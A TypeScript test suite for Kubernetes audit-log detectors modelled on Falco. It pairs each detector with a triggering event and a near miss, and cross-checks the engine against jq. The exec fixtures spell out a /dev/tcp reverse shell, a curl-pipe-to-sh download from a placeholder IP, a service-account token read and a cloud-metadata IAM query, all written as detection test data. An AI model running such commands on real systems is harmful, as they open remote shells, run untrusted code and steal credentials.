import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { BASIC_DETECTOR_IDS, compileDetectors, DETECTOR_CATALOG, detectRequest, detectorQuery } from '../../../../server/src/auditlog/detectors';
import { normalizeEvent } from '../../../../server/src/auditlog/normalizedEvent';
import { compileQuery, parseQuery, toJq } from '../../../../server/src/auditlog/query';
import { jqCondition, JQ_PRELUDE } from '../../../../server/src/auditlog/query/toJq';
import { auditEvent, cronJob, deployment, execUri, pod, requestOf, role, type EventSpec } from './detectorEvents';
import { testTempDir } from '../../../harness/tempDir';

const ALL = compileDetectors({ includeDisabled: true });

function outcome(id: string, spec: EventSpec): string {
  const finding = detectRequest(requestOf(spec), ALL).find((f) => f.detector.id === id);
  return finding?.outcome ?? 'clean';
}

const CREATE_POD = (spec: Record<string, unknown>): EventSpec => ({ verb: 'create', res: 'pods', ns: 'app', req: pod(spec) });
const CREATE_ROLE = (rules: Record<string, unknown>[]): EventSpec => ({ verb: 'create', res: 'clusterroles', apiGroup: 'rbac.authorization.k8s.io', req: role(rules) });
const EXEC = (...command: string[]): EventSpec => ({ verb: 'get', res: 'pods/exec', ns: 'app', name: 'web-0', code: 101, uri: execUri(...command) });

/** One event that must fire each detector and one close to it that must not. */
const CASES: Record<string, [hit: EventSpec, miss: EventSpec | null]> = {
  'forbidden-request': [{ code: 403 }, { code: 404 }],
  'rbac-change': [{ verb: 'delete', res: 'rolebindings', ns: 'a', name: 'x' }, { verb: 'delete', res: 'rolebindings', ns: 'a', name: 'x', user: 'system:kube-controller-manager' }],
  'disallowed-k8s-user': [{ user: 'mallory' }, { user: 'kubernetes-admin' }],
  'create-privileged-pod': [CREATE_POD({ initContainers: [{ name: 'i', securityContext: { privileged: true } }] }), CREATE_POD({ containers: [{ name: 'c', securityContext: { privileged: false } }] })],
  'create-sensitive-mount-pod': [CREATE_POD({ volumes: [{ name: 'v', hostPath: { path: '/etc/' } }] }), CREATE_POD({ volumes: [{ name: 'v', hostPath: { path: '/etc/ssl/certs' } }] })],
  'create-hostnetwork-pod': [CREATE_POD({ hostNetwork: true }), CREATE_POD({ hostNetwork: false })],
  'create-hostpid-pod': [CREATE_POD({ hostPID: true }), CREATE_POD({ hostIPC: true })],
  'create-hostipc-pod': [CREATE_POD({ hostIPC: true }), CREATE_POD({ hostPID: true })],
  'create-nodeport-service': [{ verb: 'create', res: 'services', ns: 'a', req: { spec: { type: 'NodePort' } } }, { verb: 'create', res: 'services', ns: 'a', req: { spec: { type: 'ClusterIP' } } }],
  'configmap-private-credentials': [{ verb: 'create', res: 'configmaps', ns: 'a', req: { data: { db_password: 'x' } } }, { verb: 'create', res: 'configmaps', ns: 'a', req: { data: { color: 'blue' } } }],
  'anonymous-request-allowed': [{ user: 'system:anonymous', uri: '/api/v1/namespaces', res: 'namespaces' }, { user: 'system:anonymous', uri: '/healthz?verbose', res: 'x' }],
  'attach-exec-pod': [{ verb: 'get', res: 'pods/exec', code: 101 }, { verb: 'create', res: 'pods/exec', code: 403 }],
  'port-forward': [{ verb: 'create', res: 'pods/portforward' }, { verb: 'create', res: 'pods/proxy' }],
  'ephemeral-containers-created': [{ verb: 'patch', res: 'pods/ephemeralcontainers' }, { verb: 'get', res: 'pods/ephemeralcontainers' }],
  'create-disallowed-namespace': [{ verb: 'create', res: 'namespaces', name: 'foo' }, { verb: 'create', res: 'namespaces', name: 'default' }],
  'pod-created-in-kube-namespace': [
    { verb: 'create', res: 'pods', ns: 'kube-system', req: pod({ containers: [{ name: 'c', image: 'evil/miner' }] }) },
    { verb: 'create', res: 'pods', ns: 'kube-system', req: pod({ containers: [{ name: 'c', image: 'registry.k8s.io/kube-proxy:v1.31.0' }] }) },
  ],
  'service-account-created-in-kube-namespace': [{ verb: 'create', res: 'serviceaccounts', ns: 'kube-system', name: 'backdoor' }, { verb: 'create', res: 'serviceaccounts', ns: 'kube-system', name: 'job-controller' }],
  'system-clusterrole-modified': [{ verb: 'patch', res: 'clusterroles', name: 'system:node' }, { verb: 'patch', res: 'clusterroles', name: 'system:coredns' }],
  'attach-to-cluster-admin-role': [{ verb: 'create', res: 'rolebindings', ns: 'a', req: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' } } }, { verb: 'create', res: 'rolebindings', ns: 'a', req: { roleRef: { kind: 'ClusterRole', name: 'view' } } }],
  'clusterrole-with-wildcard-created': [CREATE_ROLE([{ verbs: ['*'], resources: ['pods'] }]), CREATE_ROLE([{ verbs: ['get'], resources: ['pods'] }])],
  'clusterrole-with-write-privileges-created': [CREATE_ROLE([{ verbs: ['delete'], resources: ['pods'] }]), CREATE_ROLE([{ verbs: ['get', 'list'], resources: ['pods'] }])],
  'clusterrole-with-pod-exec-created': [CREATE_ROLE([{ verbs: ['create'], resources: ['pods/exec'] }]), CREATE_ROLE([{ verbs: ['create'], resources: ['pods'] }])],
  'secret-get-successfully': [{ verb: 'get', res: 'secrets', ns: 'a', name: 's' }, { verb: 'get', res: 'secrets', ns: 'a', name: 's', user: 'system:node:n1' }],
  'secret-get-unsuccessfully-tried': [{ verb: 'get', res: 'secrets', ns: 'a', name: 's', code: 403 }, { verb: 'get', res: 'secrets', ns: 'a', name: 's' }],
  'ingress-without-tls': [{ verb: 'create', res: 'ingresses', ns: 'a', req: { spec: { rules: [] } } }, { verb: 'create', res: 'ingresses', ns: 'a', req: { spec: { tls: [{ hosts: ['a.example'] }] } } }],
  'create-disallowed-pod': [CREATE_POD({ containers: [{ name: 'c', image: 'evil/miner' }] }), CREATE_POD({ containers: [{ name: 'c', image: 'registry.k8s.io/pause:3.9' }] })],
  'full-k8s-administrative-access': [{ user: 'kubernetes-admin' }, { user: 'mallory' }],
  'untrusted-node-successfully-joined': [{ verb: 'create', res: 'nodes', name: 'n9' }, { verb: 'create', res: 'nodes', name: 'n9', code: 403 }],
  'untrusted-node-unsuccessfully-tried': [{ verb: 'create', res: 'nodes', name: 'n9', code: 403 }, { verb: 'create', res: 'nodes', name: 'n9' }],
  'all-k8s-audit-events': [{}, null],
  'secret-enumeration': [{ verb: 'list', res: 'secrets', ns: 'a' }, { verb: 'list', res: 'configmaps', ns: 'a' }],
  'secret-dump-cluster-wide': [{ verb: 'list', res: 'secrets' }, { verb: 'list', res: 'secrets', ns: 'a' }],
  'secret-read-by-scripting-client': [{ verb: 'get', res: 'secrets', ns: 'a', name: 's', ua: 'python-requests/2.31' }, { verb: 'get', res: 'secrets', ns: 'a', name: 's' }],
  'secret-modified': [{ verb: 'delete', res: 'secrets', ns: 'a', name: 's' }, { verb: 'delete', res: 'secrets', ns: 'kube-system', name: 's' }],
  'exec-reverse-shell': [EXEC('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), EXEC('ls', '-la')],
  'exec-credential-access': [EXEC('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), EXEC('cat', '/etc/hostname')],
  'exec-cloud-metadata': [EXEC('curl', 'http://169.254.169.254/latest/meta-data/iam/'), EXEC('curl', 'http://web:8080/')],
  'exec-download': [EXEC('sh', '-c', 'curl -sSL https://203.0.113.5/x.sh | sh'), EXEC('sh', '-c', 'echo curl')],
  'exec-kubectl-cp': [EXEC('tar', 'cf', '-', '/data'), EXEC('tar', 'xmf', '-', '-C', '/data')],
  'nodes-proxy': [{ verb: 'get', res: 'nodes/proxy', name: 'n1', uri: '/api/v1/nodes/n1/proxy/pods' }, { verb: 'get', res: 'nodes/proxy', name: 'n1', uri: '/api/v1/nodes/n1/proxy/metrics/cadvisor' }],
  'nodes-proxy-command-execution': [{ verb: 'create', res: 'nodes/proxy', name: 'n1', uri: '/api/v1/nodes/n1/proxy/run/app/web-0/web' }, { verb: 'get', res: 'nodes/proxy', name: 'n1', uri: '/api/v1/nodes/n1/proxy/pods' }],
  'dangerous-capabilities': [
    { verb: 'patch', res: 'deployments', apiGroup: 'apps', ns: 'a', name: 'd', req: deployment({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }] }) },
    { verb: 'patch', res: 'deployments', apiGroup: 'apps', ns: 'a', name: 'd', req: deployment({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['NET_BIND_SERVICE'] } } }] }) },
  ],
  'sensitive-host-path': [CREATE_POD({ volumes: [{ name: 'v', hostPath: { path: '/var/lib/kubelet/pki' } }] }), CREATE_POD({ volumes: [{ name: 'v', hostPath: { path: '/var/log' } }] })],
  'host-path-volume': [CREATE_POD({ volumes: [{ name: 'v', hostPath: { path: '/data' } }] }), CREATE_POD({ volumes: [{ name: 'v', emptyDir: {} }] })],
  'host-port': [CREATE_POD({ containers: [{ name: 'c', ports: [{ containerPort: 80, hostPort: 80 }] }] }), CREATE_POD({ containers: [{ name: 'c', ports: [{ containerPort: 80 }] }] })],
  'runs-as-root': [CREATE_POD({ securityContext: { runAsUser: 0 } }), CREATE_POD({ securityContext: { runAsUser: 1000 } })],
  'privilege-escalation-allowed': [CREATE_POD({ containers: [{ name: 'c', securityContext: { allowPrivilegeEscalation: true } }] }), CREATE_POD({ containers: [{ name: 'c', securityContext: { allowPrivilegeEscalation: false } }] })],
  'unmasked-proc-mount': [CREATE_POD({ containers: [{ name: 'c', securityContext: { procMount: 'Unmasked' } }] }), CREATE_POD({ containers: [{ name: 'c', securityContext: { procMount: 'Default' } }] })],
  'node-debug-pod': [CREATE_POD({ hostPID: true, hostNetwork: true, volumes: [{ name: 'host-root', hostPath: { path: '/' } }] }), CREATE_POD({ hostPID: true })],
  'kube-system-controller-service-account': [
    { verb: 'create', res: 'deployments', apiGroup: 'apps', ns: 'kube-system', req: deployment({ serviceAccountName: 'replicaset-controller' }) },
    { verb: 'create', res: 'deployments', apiGroup: 'apps', ns: 'kube-system', req: deployment({ serviceAccountName: 'my-app' }) },
  ],
  'anonymous-pod-write': [{ verb: 'create', res: 'pods', ns: 'a', user: 'system:anonymous' }, { verb: 'create', res: 'pods', ns: 'a' }],
  'pod-security-violation': [{ verb: 'create', res: 'pods', ns: 'a', annotations: { 'pod-security.kubernetes.io/audit-violations': 'would violate PodSecurity "restricted:latest"' } }, { verb: 'create', res: 'pods', ns: 'a' }],
  'daemonset-created': [{ verb: 'create', res: 'daemonsets', apiGroup: 'apps', ns: 'a' }, { verb: 'create', res: 'daemonsets', apiGroup: 'apps', ns: 'a', user: 'system:serviceaccount:kube-system:addon' }],
  'cronjob-or-job-modified': [{ verb: 'create', res: 'cronjobs', apiGroup: 'batch', ns: 'a' }, { verb: 'create', res: 'jobs', apiGroup: 'batch', ns: 'a', user: 'system:kube-controller-manager' }],
  'deployment-patched': [{ verb: 'patch', res: 'deployments', apiGroup: 'apps', ns: 'a', name: 'd' }, { verb: 'patch', res: 'deployments/scale', apiGroup: 'apps', ns: 'a', name: 'd' }],
  'admission-webhook-modified': [{ verb: 'create', res: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io' }, { verb: 'get', res: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io' }],
  'loadbalancer-service': [{ verb: 'create', res: 'services', ns: 'a', req: { spec: { type: 'LoadBalancer' } } }, { verb: 'create', res: 'services', ns: 'a', req: { spec: { type: 'ClusterIP' } } }],
  'coredns-config-modified': [{ verb: 'patch', res: 'configmaps', ns: 'kube-system', name: 'coredns' }, { verb: 'get', res: 'configmaps', ns: 'kube-system', name: 'coredns' }],
  'aws-auth-modified': [{ verb: 'update', res: 'configmaps', ns: 'kube-system', name: 'aws-auth' }, { verb: 'update', res: 'configmaps', ns: 'default', name: 'aws-auth' }],
  'binding-to-service-account': [{ verb: 'create', res: 'rolebindings', ns: 'a', req: { subjects: [{ kind: 'ServiceAccount', name: 'ci', namespace: 'a' }] } }, { verb: 'create', res: 'rolebindings', ns: 'a', req: { subjects: [{ kind: 'User', name: 'bob' }] } }],
  'wildcard-added-to-role': [{ verb: 'patch', res: 'roles', ns: 'a', name: 'r', req: {}, resp: role([{ verbs: ['*'], resources: ['pods'] }]) }, { verb: 'patch', res: 'roles', ns: 'a', name: 'r', req: {}, resp: role([{ verbs: ['get'], resources: ['pods'] }]) }],
  'role-with-escalate-bind-impersonate': [CREATE_ROLE([{ verbs: ['impersonate'], resources: ['users'] }]), CREATE_ROLE([{ verbs: ['get'], resources: ['users'] }])],
  'role-grants-rbac-access': [CREATE_ROLE([{ verbs: ['create'], resources: ['rolebindings'] }]), CREATE_ROLE([{ verbs: ['create'], resources: ['pods'] }])],
  'role-grants-nodes-proxy': [CREATE_ROLE([{ verbs: ['get'], resources: ['nodes/proxy'] }]), CREATE_ROLE([{ verbs: ['get'], resources: ['nodes'] }])],
  'role-grants-tokens-or-secrets': [CREATE_ROLE([{ verbs: ['get'], resources: ['secrets'] }]), CREATE_ROLE([{ verbs: ['get'], resources: ['configmaps'] }])],
  'service-account-modifies-rbac': [{ verb: 'create', res: 'rolebindings', ns: 'a', user: 'system:serviceaccount:ci:deployer' }, { verb: 'create', res: 'rolebindings', ns: 'a' }],
  'self-permission-review': [{ verb: 'create', res: 'selfsubjectrulesreviews', user: 'system:serviceaccount:a:b' }, { verb: 'create', res: 'selfsubjectrulesreviews' }],
  impersonation: [{ as: { username: 'bob' } }, {}],
  'privileged-impersonation': [{ as: { username: 'bob', groups: ['system:masters'] } }, { as: { username: 'bob' } }],
  'system-principal-from-public-ip': [{ user: 'system:kube-scheduler', ip: '198.51.100.7' }, { user: 'system:kube-scheduler', ip: '172.20.1.1' }],
  'recon-tool-user-agent': [{ ua: 'kube-hunter/0.6.8' }, {}],
  'token-request': [{ verb: 'create', res: 'serviceaccounts/token', ns: 'kube-system', name: 'admin' }, { verb: 'create', res: 'serviceaccounts/token', ns: 'a', name: 'b', user: 'system:node:n1' }],
  'csr-created-or-approved': [{ verb: 'create', res: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io' }, { verb: 'create', res: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', user: 'system:bootstrap:abc123' }],
  'csr-apiserver-client-signer': [
    { verb: 'create', res: 'certificatesigningrequests', req: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } } },
    { verb: 'create', res: 'certificatesigningrequests', req: { spec: { signerName: 'kubernetes.io/kubelet-serving' } } },
  ],
  'secret-values-in-audit-log': [
    { verb: 'create', res: 'secrets', ns: 'a', name: 'db', req: { kind: 'Secret', data: { password: 'aHVudGVyMg==' } } },
    { verb: 'get', res: 'secrets', ns: 'a', name: 'db' },
  ],
  'events-deleted': [{ verb: 'delete', res: 'events', ns: 'a', name: 'e' }, { verb: 'get', res: 'events', ns: 'a', name: 'e' }],
};

// Falco's activity rules: create/delete with a 2xx response (system users excluded where Falco does).
for (const detector of DETECTOR_CATALOG.filter((d) => d.group === 'activity' && !d.disabled)) {
  const verb = detector.title.endsWith('Created') ? 'create' : 'delete';
  const resource = /resource:(\S+)/.exec(detector.condition)![1]!;
  const ns = resource === 'namespaces' || resource.startsWith('cluster') ? undefined : 'a';
  CASES[detector.id] = [{ verb, res: resource, ns, name: 'x' }, { verb, res: resource, ns, name: 'x', code: 500 }];
}

describe('detectors', () => {
  it('has a well-formed catalog: unique ids, parseable conditions, references, every basic present', () => {
    const ids = DETECTOR_CATALOG.map((d) => d.id);
    assert.equal(new Set(ids).size, ids.length);
    for (const detector of DETECTOR_CATALOG) {
      assert.doesNotThrow(() => toJq(parseQuery(detectorQuery(detector))), detector.id);
      assert.ok(detector.references.length > 0, detector.id);
      assert.equal(detector.bodyCondition === undefined, detector.needsLevel === 'Metadata', `${detector.id}: needsLevel matches the body condition`);
    }
    for (const id of BASIC_DETECTOR_IDS) assert.ok(ids.includes(id), id);
  });

  it('has a positive and a negative test for every detector', () => {
    assert.deepEqual(DETECTOR_CATALOG.map((d) => d.id).filter((id) => !(id in CASES)), []);
  });

  for (const [id, [hit, miss]] of Object.entries(CASES)) {
    it(`${id}: fires on its case, not on the near miss`, () => {
      assert.equal(outcome(id, hit), 'hit');
      if (miss) assert.equal(outcome(id, miss), 'clean');
    });
  }

  it('says "unknown", not clean, when the body it needs was not logged', () => {
    const metadataOnly = detectRequest(requestOf({ verb: 'create', res: 'pods', ns: 'a' }), ALL);
    const privileged = metadataOnly.find((f) => f.detector.id === 'create-privileged-pod')!;
    assert.equal(privileged.outcome, 'unknown');
    assert.equal(privileged.reason, 'needs Request level (logged at Metadata)');
    const noResponse = detectRequest(requestOf({ verb: 'patch', res: 'roles', ns: 'a', name: 'r', req: {} }), ALL).find((f) => f.detector.id === 'wildcard-added-to-role')!;
    assert.equal(noResponse.outcome, 'unknown');
    assert.equal(noResponse.reason, 'needs RequestResponse level (logged at Request)');
    // Out of scope stays silent: a get of a pod is not "unknown" for pod-spec detectors.
    assert.equal(detectRequest(requestOf({ verb: 'get', res: 'pods' }), ALL).filter((f) => f.outcome === 'unknown').length, 0);
    // Nor is an exec, attach or eviction (a create on a subresource of a pod, which carries no pod spec), in any namespace.
    for (const res of ['pods/exec', 'pods/attach', 'pods/eviction', 'pods/binding']) {
      const unknown = detectRequest(requestOf({ verb: 'create', res, ns: 'kube-system', name: 'p' }), ALL).filter((f) => f.outcome === 'unknown');
      assert.deepEqual(unknown.map((f) => f.detector.id), [], res);
    }
  });

  it('checks workload templates, update/patch bodies and the stored object of the response', () => {
    const privileged = { containers: [{ name: 'c', securityContext: { privileged: true } }] };
    assert.equal(outcome('create-privileged-pod', { verb: 'create', res: 'cronjobs', apiGroup: 'batch', ns: 'a', req: cronJob(privileged) }), 'hit');
    assert.equal(outcome('create-privileged-pod', { verb: 'update', res: 'statefulsets', apiGroup: 'apps', ns: 'a', req: deployment(privileged) }), 'hit');
    assert.equal(outcome('create-privileged-pod', { verb: 'patch', res: 'daemonsets', apiGroup: 'apps', ns: 'a', req: { metadata: { labels: { a: 'b' } } }, resp: deployment(privileged) }), 'hit');
    assert.equal(outcome('create-privileged-pod', { verb: 'get', res: 'deployments', apiGroup: 'apps', ns: 'a', req: deployment(privileged) }), 'clean');
    assert.equal(outcome('create-privileged-pod', { verb: 'patch', res: 'pods/ephemeralcontainers', ns: 'a', req: { spec: { ephemeralContainers: [{ name: 'd', securityContext: { privileged: true } }] } } }), 'hit');
  });

  it('pod images: one untrusted container among trusted ones is enough, as in Falco (some image is not trusted)', () => {
    const inKubeSystem = (spec: Record<string, unknown>): EventSpec => ({ verb: 'create', res: 'pods', ns: 'kube-system', req: pod(spec) });
    const pause = { name: 'pause', image: 'registry.k8s.io/pause:3.9' };
    const miner = { name: 'miner', image: 'evil.example/miner:latest' };
    const cases: [string, Record<string, unknown>, string][] = [
      ['a trusted image beside an untrusted one', { containers: [pause, miner] }, 'hit'],
      ['the untrusted one first', { containers: [miner, pause] }, 'hit'],
      ['an untrusted init container', { initContainers: [miner], containers: [pause] }, 'hit'],
      ['an untrusted ephemeral container', { containers: [pause], ephemeralContainers: [miner] }, 'hit'],
      ['only trusted images', { containers: [pause, { name: 'proxy', image: 'registry.k8s.io/kube-proxy:v1.31.0' }], initContainers: [{ name: 'cni', image: 'quay.io/cilium/cilium:v1.16' }] }, 'clean'],
      ['no containers in the body (nothing to judge)', {}, 'clean'],
    ];
    for (const id of ['pod-created-in-kube-namespace', 'create-disallowed-pod']) {
      for (const [what, spec, expected] of cases) assert.equal(outcome(id, inKubeSystem(spec)), expected, `${id}: ${what}`);
    }
  });

  it('selects by severity and leaves disabled detectors out by default', () => {
    const defaults = compileDetectors();
    assert.ok(!defaults.some((d) => d.definition.disabled));
    assert.ok(compileDetectors({ minSeverity: 'high' }).every((d) => ['high', 'critical'].includes(d.definition.severity)));
    assert.deepEqual(compileDetectors({ ids: ['port-forward'] }).map((d) => d.definition.id), ['port-forward']);
  });
});

describe('detectors as jq', () => {
  it('every detector query selects the same events in jq as in the engine', { skip: !existsSync('/usr/bin/jq') && 'jq not installed' }, () => {
    const specs = Object.values(CASES).flatMap(([hit, miss]) => (miss ? [hit, miss] : [hit]));
    const events = specs.map((spec) => auditEvent(spec));
    const folder = testTempDir('k8s-audit-detectors-jq-');
    const log = join(folder, 'cases.jsonl');
    writeFileSync(log, `${events.map((e) => JSON.stringify(e)).join('\n')}\n`);
    const queries = DETECTOR_CATALOG.map((d) => parseQuery(detectorQuery(d)));
    // One jq run: for every event, one boolean per detector.
    const program = `${JQ_PRELUDE}\n[${queries.map((q) => `(${jqCondition(q)})`).join(', ')}]`;
    const result = spawnSync('/usr/bin/jq', ['-c', program, log], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
    assert.equal(result.status, 0, result.stderr);
    const fromJq = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as boolean[]);
    const predicates = queries.map(compileQuery);
    const normalized = events.map((e) => normalizeEvent(e, 'k8s-json', { file: 0, line: 1, offset: 0 }));
    let hits = 0;
    normalized.forEach((event, i) => {
      predicates.forEach((predicate, j) => {
        const engine = predicate(event);
        if (engine) hits++;
        assert.equal(fromJq[i]![j], engine, `${DETECTOR_CATALOG[j]!.id} on ${JSON.stringify(events[i])}`);
      });
    });
    assert.ok(hits > specs.length / 2, `${hits} hits`);
  });
});
